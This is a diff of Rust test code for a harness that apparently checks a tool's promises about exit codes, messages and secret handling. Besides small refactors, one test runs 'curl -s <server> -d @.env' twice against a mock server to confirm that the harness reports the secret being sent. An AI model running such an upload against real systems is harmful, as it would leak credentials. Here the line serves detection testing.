@@ -12,10 +12,8 @@ fn found(script: &str, promise: impl FnOnce(&mut Promise)) -> Vec<String> {
         .replace("SECRET", scene.secret());
     let run = scene.run(scene.machine.shell_command("bash", &script));
     let broken = expected.broken(&scene, &run);
-    broken
-        .iter()
-        .map(|text| text.split(':').next().expect("a word").to_owned())
-        .collect()
+    let number = |text: &String| text.split(':').next().expect("a word").to_owned();
+    broken.iter().map(number).collect()
 }
 
 #[test]
@@ -59,11 +57,10 @@ fn each_broken_promise_is_found() {
     }
     assert_eq!(found(error, |p| p.exit = 5), ["G9"]);
     let elsewhere = "printf 'error: zeev: nobody\\nhint: wait\\n' >&2; exit 5";
-    assert_eq!(
-        found(elsewhere, |p| (p.exit, p.place) =
-            (5, Some("h:1".to_owned()))),
-        ["G9"]
-    );
+    let unnamed = found(elsewhere, |p| {
+        (p.exit, p.place) = (5, Some("h:1".to_owned()))
+    });
+    assert_eq!(unnamed, ["G9"]);
     assert_eq!(found("true", |p| p.says = vec!["x".to_owned()]).len(), 1);
 }
 
@@ -84,9 +81,7 @@ fn a_session_goes_to_whom_it_was_promised() {
 fn what_carries_a_secret_is_counted() {
     let scene = Scene::new(steps::named("a call to zeev"));
     let send = format!("curl -s {} -d @.env; ", scene.server.url());
-    scene
-        .server
-        .push([Reply::json(200, ""), Reply::json(200, "")]);
+    scene.server.push([(); 2].map(|()| Reply::json(200, "")));
     let run = scene.run(scene.machine.shell_command("bash", &send.repeat(2)));
     let broken = Promise::exit(0).broken(&scene, &run);
     assert_eq!(broken, ["G8: a secret was sent 2 times"]);
